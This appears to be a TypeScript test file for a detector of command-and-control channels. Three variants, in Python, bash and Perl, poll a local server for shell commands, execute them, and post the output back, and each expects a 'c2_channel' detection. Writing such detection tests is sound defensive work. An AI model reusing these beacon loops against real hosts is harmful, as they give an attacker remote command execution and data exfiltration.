import assert from "node:assert/strict";
import { createServer } from "node:http";
import { listening } from "../peers.ts";
import type { Traced } from "../traced_job.ts";
import type { Variant } from "../variant.ts";

let port = 0;
let answers: string[] = [];

/** Gives a command to each who asks, and keeps what comes back. */
async function prepare() {
  const commands = ["id -u", "uname -s", "whoami", "echo over"];
  answers = [];
  const server = createServer((request, response) => {
    response.setHeader("Connection", "close");
    if (request.method === "GET") return response.end(commands.shift() ?? "exit");
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      answers.push(body.trim());
      response.end();
    });
    return undefined;
  });
  const { port: at, close } = await listening(server);
  port = at;
  return () => {
    close();
    server.closeAllConnections();
  };
}

const happened = ({ stderr }: Traced) =>
  assert.deepEqual(answers, ["0", "Linux", "root", "over"], stderr);
const found = {
  ...{ signature: "JW-151", severity: "high", behaviour: "c2_channel" },
  message: /asked 127\.0\.0\.1:\d+ again and again/,
} as const satisfies Partial<Variant["found"]>;

export const variants: Variant[] = [
  {
    name: "python asks for commands and posts what they print",
    prepare,
    command: () => [
      ...["python3", "-c"],
      `import subprocess, urllib.request
while True:
    line = urllib.request.urlopen("http://127.0.0.1:${port}/task").read().decode()
    if line == "exit": break
    out = subprocess.run(line, shell=True, capture_output=True).stdout
    urllib.request.urlopen("http://127.0.0.1:${port}/result", data=out).read()`,
    ],
    happened,
    found: { ...found, program: "/python3.11" },
  },
  {
    name: "bash evaluates what curl fetches",
    prepare,
    command: () => [
      ...["bash", "-c"],
      `while line=$(curl -fsS http://127.0.0.1:${port}/task) && [ "$line" != exit ]; do
  eval "$line" 2>&1 | curl -fsS --data-binary @- http://127.0.0.1:${port}/result
done`,
    ],
    happened,
    found: { ...found, program: "/curl" },
  },
  {
    name: "perl connects by itself, and reads from a pipe",
    prepare,
    command: () => [
      ...["perl", "-MIO::Socket::INET", "-e"],
      `sub ask {
  my ($request) = @_;
  my $s = IO::Socket::INET->new("127.0.0.1:${port}") or die;
  print $s $request;
  local $/;
  my ($head, $body) = split /\\r\\n\\r\\n/, <$s>, 2;
  return $body;
}
while (1) {
  my $line = ask("GET /task HTTP/1.0\\r\\n\\r\\n");
  last if $line eq "exit";
  my $out = \`sh -c '$line'\`;
  ask("POST /result HTTP/1.0\\r\\nContent-Length: " . length($out) . "\\r\\n\\r\\n$out");
}`,
    ],
    happened,
    found: { ...found, program: "/perl" },
  },
];
